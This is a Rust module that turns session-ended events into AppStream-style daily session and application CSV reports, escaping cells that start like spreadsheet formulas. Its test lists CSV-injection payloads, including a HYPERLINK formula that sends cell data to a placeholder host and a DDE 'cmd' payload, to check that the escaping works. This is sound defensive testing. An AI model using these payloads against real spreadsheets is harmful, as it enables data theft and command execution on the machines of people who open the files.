//! AppStream-style usage reports: a daily sessions CSV and a daily applications CSV, with
//! AppStream's exact columns and partition layout, built from the trail's `SessionEnded`
//! events. A session appears on the (UTC) day it ended; days without sessions get no report.

use chrono::{DateTime, NaiveDate, Utc};
use serde::Deserialize;

use crate::record::Record;

pub const SESSION_COLUMNS: [&str; 29] = [
    "user_session_id",
    "aws_account_id",
    "region",
    "session_start_time",
    "session_end_time",
    "session_duration_in_seconds",
    "user_id",
    "user_arn",
    "authentication_type",
    "authentication_type_user_id",
    "fleet_name",
    "stack_name",
    "instance_type",
    "eni_private_ip_address",
    "connected_at_least_once",
    "client_ip_addresses",
    "google_drive_enabled",
    "one_drive_enabled",
    "home_folders_storage_location",
    "user_settings_clipboard_copy_from_local_device",
    "user_settings_clipboard_copy_to_local_device",
    "user_settings_file_upload",
    "user_settings_file_download",
    "user_settings_printing_to_local_device",
    "application_settings_enabled",
    "domain_joined",
    "max_session_duration",
    "session_type",
    "stream_view",
];

pub const APPLICATION_COLUMNS: [&str; 6] = ["user_session_id", "application_name", "schedule", "year", "month", "day"];

/// The `requestParameters` of a `streaming:SessionEnded` service event: everything a report
/// row needs, recorded when the session ends.
#[derive(Debug, Clone, Deserialize)]
#[serde(rename_all = "PascalCase")]
pub struct EndedSession {
    pub session_id: String,
    pub user_id: String,
    #[serde(default)]
    pub user_arn: String,
    pub authentication_type: String,
    #[serde(default)]
    pub authentication_type_user_id: String,
    pub fleet_name: String,
    pub stack_name: String,
    pub instance_type: String,
    #[serde(default)]
    pub eni_private_ip_address: String,
    pub start_time: String,
    pub end_time: String,
    #[serde(default)]
    pub connected_at_least_once: bool,
    #[serde(default)]
    pub client_ip_addresses: Vec<String>,
    #[serde(default)]
    pub home_folders_storage_location: String,
    /// `ENABLED` or `DISABLED` per AppStream user-setting action.
    #[serde(default)]
    pub user_settings: std::collections::BTreeMap<String, String>,
    pub max_session_duration_seconds: u64,
    pub session_type: String,
    pub stream_view: String,
    #[serde(default)]
    pub applications: Vec<String>,
}

/// The two CSV files of one day, with their object keys in the reports bucket.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DailyReports {
    pub sessions_key: String,
    pub sessions_csv: String,
    pub applications_key: String,
    pub applications_csv: String,
    pub session_count: usize,
}

/// The day's reports from the trail's records, or `None` when no session ended that day.
pub fn daily_reports(day: NaiveDate, records: &[Record], account_id: &str, region: &str) -> Result<Option<DailyReports>, String> {
    let mut sessions: Vec<(DateTime<Utc>, EndedSession)> = Vec::new();
    for record in records.iter().filter(|r| r.event_source == "streaming" && r.event_name == "SessionEnded" && r.error_code.is_none()) {
        let session: EndedSession = serde_json::from_value(record.request_parameters.clone())
            .map_err(|e| format!("SessionEnded record {} is malformed: {e}", record.event_id))?;
        let ended = parse_time(&session.end_time)?;
        if ended.date_naive() == day {
            sessions.push((ended, session));
        }
    }
    if sessions.is_empty() {
        return Ok(None);
    }
    sessions.sort_by(|a, b| a.0.cmp(&b.0).then_with(|| a.1.session_id.cmp(&b.1.session_id)));
    sessions.dedup_by(|a, b| a.1.session_id == b.1.session_id);
    let date = day.format("%Y-%m-%d").to_string();
    let partition = day.format("schedule=DAILY/year=%Y/month=%m/day=%d").to_string();
    let mut sessions_csv = csv_line(SESSION_COLUMNS.iter().map(|c| (*c).to_owned()));
    let mut applications_csv = csv_line(APPLICATION_COLUMNS.iter().map(|c| (*c).to_owned()));
    for (ended, session) in &sessions {
        let started = parse_time(&session.start_time)?;
        let setting = |action: &str| session.user_settings.get(action).cloned().unwrap_or_else(|| "ENABLED".to_owned());
        sessions_csv.push_str(&csv_line([
            session.session_id.clone(),
            account_id.to_owned(),
            region.to_owned(),
            format_time(&started),
            format_time(ended),
            (*ended - started).num_seconds().max(0).to_string(),
            session.user_id.clone(),
            session.user_arn.clone(),
            session.authentication_type.clone(),
            session.authentication_type_user_id.clone(),
            session.fleet_name.clone(),
            session.stack_name.clone(),
            session.instance_type.clone(),
            session.eni_private_ip_address.clone(),
            session.connected_at_least_once.to_string(),
            session.client_ip_addresses.join(","),
            "false".to_owned(),
            "false".to_owned(),
            session.home_folders_storage_location.clone(),
            setting("CLIPBOARD_COPY_FROM_LOCAL_DEVICE"),
            setting("CLIPBOARD_COPY_TO_LOCAL_DEVICE"),
            setting("FILE_UPLOAD"),
            setting("FILE_DOWNLOAD"),
            setting("PRINTING_TO_LOCAL_DEVICE"),
            "false".to_owned(),
            "false".to_owned(),
            session.max_session_duration_seconds.to_string(),
            session.session_type.clone(),
            session.stream_view.clone(),
        ]));
        for application in &session.applications {
            applications_csv.push_str(&csv_line([
                session.session_id.clone(),
                application.clone(),
                "DAILY".to_owned(),
                day.format("%Y").to_string(),
                day.format("%m").to_string(),
                day.format("%d").to_string(),
            ]));
        }
    }
    Ok(Some(DailyReports {
        sessions_key: format!("sessions/{partition}/daily-session-report-{date}.csv"),
        sessions_csv,
        applications_key: format!("applications/{partition}/daily-app-report-{date}.csv"),
        applications_csv,
        session_count: sessions.len(),
    }))
}

fn parse_time(text: &str) -> Result<DateTime<Utc>, String> {
    DateTime::parse_from_rfc3339(text).map(|t| t.with_timezone(&Utc)).map_err(|_| format!("`{text}` is not an RFC 3339 time"))
}

fn format_time(time: &DateTime<Utc>) -> String {
    time.format("%Y-%m-%d %H:%M:%S").to_string()
}

/// One CSV line (RFC 4180): fields quoted only when they hold a comma, quote or line break.
/// A field a spreadsheet would read as a formula (starting with `=`, `+`, `-`, `@`, a tab or
/// a carriage return: user ids and application ids come from callers) is prefixed with `'`,
/// as OWASP advises, so the operator who opens the report sees text, not a formula.
fn csv_line(fields: impl IntoIterator<Item = String>) -> String {
    let mut line = fields
        .into_iter()
        .map(|field| if field.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{field}") } else { field })
        .map(|field| if field.contains([',', '"', '\n', '\r']) { format!("\"{}\"", field.replace('"', "\"\"")) } else { field })
        .collect::<Vec<_>>()
        .join(",");
    line.push('\n');
    line
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attack_f17_report_cells_never_start_a_formula() {
        let cases = [
            ("=HYPERLINK(\"http://x/?\"&A1,\"open\")", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"open\"\")\""),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "\"'\r=1\""),
            ("alice", "alice"),
            ("a=b", "a=b"),
        ];
        for (field, cell) in cases {
            assert_eq!(csv_line([field.to_owned()]), format!("{cell}\n"), "{field:?}");
        }
    }

    /// Recorded events in, byte-identical CSVs out (the expected files are written by hand).
    #[test]
    fn golden_reports() {
        let records: Vec<Record> = include_str!("../tests/golden/session-events.jsonl")
            .lines()
            .map(|line| serde_json::from_str(line).expect("fixture record"))
            .collect();
        let day = NaiveDate::from_ymd_opt(2026, 11, 28).expect("date");
        let reports = daily_reports(day, &records, "000000000000", "local").expect("valid").expect("sessions that day");
        assert_eq!(reports.sessions_key, "sessions/schedule=DAILY/year=2026/month=11/day=28/daily-session-report-2026-11-28.csv");
        assert_eq!(reports.applications_key, "applications/schedule=DAILY/year=2026/month=11/day=28/daily-app-report-2026-11-28.csv");
        assert_eq!(reports.sessions_csv, include_str!("../tests/golden/daily-session-report-2026-11-28.csv"));
        assert_eq!(reports.applications_csv, include_str!("../tests/golden/daily-app-report-2026-11-28.csv"));
        assert_eq!(reports.session_count, 2);
        // A day with activity but no ended session has no report.
        let quiet = NaiveDate::from_ymd_opt(2026, 11, 26).expect("date");
        assert_eq!(daily_reports(quiet, &records, "000000000000", "local").expect("valid"), None);
    }
}
